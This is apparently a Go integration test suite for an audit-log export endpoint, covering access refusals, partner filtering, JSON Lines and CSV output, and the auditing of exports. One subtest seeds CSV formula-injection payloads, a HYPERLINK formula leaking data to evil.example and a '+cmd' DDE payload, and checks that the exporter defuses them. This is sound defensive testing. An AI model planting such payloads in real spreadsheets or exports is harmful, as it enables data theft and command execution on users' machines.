package server_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/neo4j/neo4j-go-driver/v5/neo4j"
	"github.com/stretchr/testify/require"

	"github.com/traffikgraph/traffikgraph"
	"github.com/traffikgraph/traffikgraph/auth"
	"github.com/traffikgraph/traffikgraph/server"
	"github.com/traffikgraph/traffikgraph/store"
	"github.com/traffikgraph/traffikgraph/store/storetest"
)

// callerTokens authenticates the export tests' own callers, of partners no other test uses.
type callerTokens map[string]auth.Caller

func (c callerTokens) Authenticate(_ context.Context, header string) (auth.Caller, error) {
	if header == "" {
		return auth.Caller{}, nil
	}
	caller, ok := c[header]
	if !ok {
		return auth.Caller{}, traffikgraph.Errorf(traffikgraph.Unauthenticated, "invalid or expired token")
	}
	return caller, nil
}

func TestAuditExport(t *testing.T) {
	s := storetest.Open(t)
	partnerA, partnerB := "partner-a-"+uuid.NewString(), "partner-b-"+uuid.NewString()
	admin := auth.Caller{Issuer: "https://issuer.example", Subject: "dpo", PartnerID: "hub-" + uuid.NewString(), Scopes: []auth.Scope{auth.ScopeAuditRead, auth.ScopeAdmin}}
	auditorA := auth.Caller{Issuer: "https://issuer.example", Subject: "officer-" + uuid.NewString(), PartnerID: partnerA, Scopes: []auth.Scope{auth.ScopeAuditRead}}
	tokens := callerTokens{
		"Bearer auditor-a": auditorA,
		"Bearer analyst-a": {Issuer: "https://issuer.example", Subject: "analyst", PartnerID: partnerA, Scopes: []auth.Scope{auth.ScopeGraphRead}},
		"Bearer admin":     admin,
	}
	t.Cleanup(func() {
		_, err := neo4j.ExecuteQuery(context.Background(), s.Driver(), `MATCH (e:AuditEvent) WHERE e.partner IN $ids DETACH DELETE e`,
			map[string]any{"ids": []string{partnerA, partnerB, admin.PartnerID}}, neo4j.EagerResultTransformer, neo4j.ExecuteQueryWithDatabase(s.Database()))
		require.NoError(t, err)
	})

	// Seven events of A in the window (more than two batches of 3), one just outside it, and
	// two of B in it.
	from := time.Date(2003, 4, 1, 0, 0, 0, 0, time.UTC)
	to := from.Add(time.Hour)
	record := func(partner string, at time.Time) *store.AuditEvent {
		subject := "analyst"
		e := &store.AuditEvent{
			At: at, Issuer: ptr("https://issuer.example"), Subject: &subject, Partner: &partner,
			OperationType: "query", RootFields: []string{"people", "node"}, EntityIDs: []string{uuid.NewString()},
			PIIFields: []string{"Person.name"}, Markings: []string{"AMBER"}, Complete: true,
		}
		require.NoError(t, s.RecordAudit(context.Background(), e))
		return e
	}
	var wantA []string // newest first
	for i := range 7 {
		wantA = append([]string{record(partnerA, from.Add(time.Duration(i)*time.Minute)).ID}, wantA...)
	}
	record(partnerA, to)
	wantB := []string{record(partnerB, from.Add(2*time.Minute)).ID, record(partnerB, from.Add(time.Minute)).ID}

	h := startServer(t, func(cfg *server.Config, deps *server.Deps) {
		cfg.AuditExportBatch = 3
		deps.Auth, deps.AuditExport = tokens, s
	})
	export := func(t *testing.T, token string, query url.Values) httpResponse {
		t.Helper()
		header := http.Header{}
		if token != "" {
			header.Set("Authorization", token)
		}
		return h.do(t, http.MethodGet, "/audit/export?"+query.Encode(), header, "")
	}
	window := func(format string, extra ...string) url.Values {
		q := url.Values{"from": {from.Format(time.RFC3339)}, "to": {to.Format(time.RFC3339)}, "format": {format}}
		for i := 0; i < len(extra); i += 2 {
			q.Set(extra[i], extra[i+1])
		}
		return q
	}

	t.Run("Refusals", func(t *testing.T) {
		for _, tc := range []struct {
			name   string
			token  string
			query  url.Values
			status int
			code   traffikgraph.Code
		}{
			{"NoToken", "", window("jsonl"), http.StatusUnauthorized, traffikgraph.Unauthenticated},
			{"WithoutAuditRead", "Bearer analyst-a", window("jsonl"), http.StatusForbidden, traffikgraph.Forbidden},
			{"AnotherPartnerWithoutAdmin", "Bearer auditor-a", window("jsonl", "partner", partnerB), http.StatusForbidden, traffikgraph.Forbidden},
			{"MissingFrom", "Bearer auditor-a", url.Values{"to": {to.Format(time.RFC3339)}, "format": {"csv"}}, http.StatusBadRequest, traffikgraph.BadUserInput},
			{"BadTo", "Bearer auditor-a", window("csv", "to", "yesterday"), http.StatusBadRequest, traffikgraph.BadUserInput},
			{"EmptyWindow", "Bearer auditor-a", window("csv", "to", from.Format(time.RFC3339)), http.StatusBadRequest, traffikgraph.BadUserInput},
			{"MissingFormat", "Bearer auditor-a", window(""), http.StatusBadRequest, traffikgraph.BadUserInput},
			{"UnknownFormat", "Bearer auditor-a", window("xml"), http.StatusBadRequest, traffikgraph.BadUserInput},
		} {
			t.Run(tc.name, func(t *testing.T) {
				res := export(t, tc.token, tc.query)
				require.Equal(t, tc.status, res.status, "body: %s", res.body)
				require.Equal(t, []string{string(tc.code)}, decodeGraphQL(t, res.body).codes())
				require.Empty(t, res.header.Get("Content-Disposition"))
			})
		}
	})

	t.Run("JSONLinesHoldOnlyTheOwnPartnersEventsOnceInOrder", func(t *testing.T) {
		res := export(t, "Bearer auditor-a", window("jsonl"))
		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
		require.Equal(t, "application/x-ndjson", res.header.Get("Content-Type"))
		require.Equal(t, `attachment; filename="audit-events.jsonl"`, res.header.Get("Content-Disposition"))
		var ids []string
		lines := bufio.NewScanner(bytes.NewReader(res.body))
		for lines.Scan() {
			var line map[string]any
			require.NoError(t, json.Unmarshal(lines.Bytes(), &line), "line: %s", lines.Text())
			require.Equal(t, partnerA, line["partner"])
			require.Equal(t, []any{"Person.name"}, line["piiFields"])
			require.Contains(t, line, "exportedEntities")
			ids = append(ids, line["id"].(string))
		}
		require.Equal(t, wantA, ids)
	})

	t.Run("CSVHasTheHeaderAndTheOwnPartnersEvents", func(t *testing.T) {
		res := export(t, "Bearer auditor-a", window("csv"))
		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
		require.Equal(t, "text/csv; charset=utf-8", res.header.Get("Content-Type"))
		rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
		require.NoError(t, err)
		require.Equal(t, []string{
			"id", "at", "issuer", "subject", "partner", "operationName", "operationType", "rootFields",
			"entityIds", "entityIdsTruncated", "piiFields", "aggregates", "markings", "complete",
			"exportScope", "exportedEntities",
		}, rows[0])
		var ids []string
		for _, row := range rows[1:] {
			require.Equal(t, partnerA, row[4])
			require.Equal(t, "people;node", row[7])
			ids = append(ids, row[0])
		}
		require.Equal(t, wantA, ids)
	})

	t.Run("CSVCellsNeverStartAFormula", func(t *testing.T) {
		// Ids and names come from callers: a spreadsheet must not run them (OWASP CSV injection).
		later := to.Add(time.Hour)
		e := record(partnerA, later)
		_, err := neo4j.ExecuteQuery(context.Background(), s.Driver(), `MATCH (e:AuditEvent {id: $id}) SET e.entityIds = $ids, e.operationName = $name`,
			map[string]any{"id": e.ID, "ids": []string{`=HYPERLINK("http://evil.example/?leak="&B2,"open")`, "@SUM(1+1)"}, "name": "+cmd|' /C calc'!A0"},
			neo4j.EagerResultTransformer, neo4j.ExecuteQueryWithDatabase(s.Database()))
		require.NoError(t, err)
		res := export(t, "Bearer auditor-a", window("csv", "from", later.Format(time.RFC3339), "to", later.Add(time.Minute).Format(time.RFC3339)))
		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
		rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 2)
		for _, cell := range rows[1] {
			for _, item := range strings.Split(cell, ";") {
				require.NotRegexp(t, `^[=+\-@\t\r]`, item, "a spreadsheet splitting the list at ';' runs no item either")
			}
		}
		require.Equal(t, `'=HYPERLINK("http://evil.example/?leak="&B2,"open");'@SUM(1+1)`, rows[1][8], "the value kept, each item quoted")
		require.Equal(t, "'+cmd|' /C calc'!A0", rows[1][5])
	})

	t.Run("AnAdminExportsAnotherPartner", func(t *testing.T) {
		res := export(t, "Bearer admin", window("csv", "partner", partnerB))
		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
		rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 1+len(wantB))
		require.Equal(t, wantB, []string{rows[1][0], rows[2][0]})
	})

	t.Run("AnEmptyWindowStillHasTheHeader", func(t *testing.T) {
		res := export(t, "Bearer auditor-a", window("csv", "from", "1990-01-01T00:00:00Z", "to", "1990-02-01T00:00:00Z"))
		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
		rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 1)
	})

	t.Run("TheExportIsAudited", func(t *testing.T) {
		res := export(t, "Bearer auditor-a", window("jsonl"))
		require.Equal(t, http.StatusOK, res.status)
		page, err := s.AuditEvents(auth.WithCaller(context.Background(), admin), store.AuditParams{
			First: ptr(1), Where: &store.AuditEventWhere{Partner: &partnerA, Subject: &auditorA.Subject},
		})
		require.NoError(t, err)
		require.Len(t, page.Events, 1)
		got := page.Events[0]
		require.Equal(t, []string{"auditExport"}, got.RootFields)
		require.True(t, got.Complete)
		require.Equal(t, []string{"auditExport", "from=" + from.Format(time.RFC3339Nano), "to=" + to.Format(time.RFC3339Nano)}, got.ExportScope)
		require.NotNil(t, got.ExportedEntities)
		require.Equal(t, len(wantA), *got.ExportedEntities)
		// The record is no event of the window: a later export of it is unchanged.
		require.Equal(t, len(wantA), bytes.Count(export(t, "Bearer auditor-a", window("jsonl")).body, []byte("\n")))
	})

	t.Run("ARefusedExportLeavesNoRecord", func(t *testing.T) {
		res := export(t, "Bearer auditor-a", window("jsonl", "partner", partnerB))
		require.Equal(t, http.StatusForbidden, res.status)
		page, err := s.AuditEvents(auth.WithCaller(context.Background(), admin), store.AuditParams{
			Where: &store.AuditEventWhere{Partner: &partnerA, Subject: &auditorA.Subject},
		})
		require.NoError(t, err)
		for _, e := range page.Events {
			require.NotContains(t, e.ExportScope, "partner="+partnerB)
		}
	})
}

func ptr[T any](v T) *T { return &v }
